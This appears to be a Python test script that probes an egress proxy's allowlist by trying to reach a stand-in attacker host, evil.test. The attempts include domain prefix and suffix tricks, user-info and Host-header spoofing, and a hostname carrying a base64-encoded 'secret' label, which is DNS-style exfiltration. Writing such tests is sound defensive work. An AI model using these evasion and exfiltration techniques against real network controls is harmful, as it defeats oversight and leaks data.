from attack import *
from asking import lured, plainly, through

near, port = lures["listenerAddress"], lures["tcpPort"]
# What is on the list has to be reached, or a refusal says nothing.
assert " 200 " in through(f"{near}:{lures['listedPort']}")
attempt("connect-other-host", lambda: through("evil.test:443"))
attempt("plain-other-host", lambda: plainly("http://evil.test/"))
attempt("other-port", lambda: through(f"{near}:{port}"))
attempt("suffix", lambda: through("notallowed.test:443"))
attempt("prefix", lambda: through("allowed.test.evil.test:443"))
attempt("case-and-dot", lambda: through("EVIL.test.:443"))
attempt("data-labels", lambda: through("c2VjcmV0.allowed.test.data.evil.test:443"))
attempt("user-info", lambda: plainly("http://allowed.test@evil.test/"))
attempt("listed-in-path", lambda: plainly("http://evil.test/allowed.test", "allowed.test"))
attempt("listed-in-host-header", lambda: plainly("http://evil.test/", "allowed.test"))
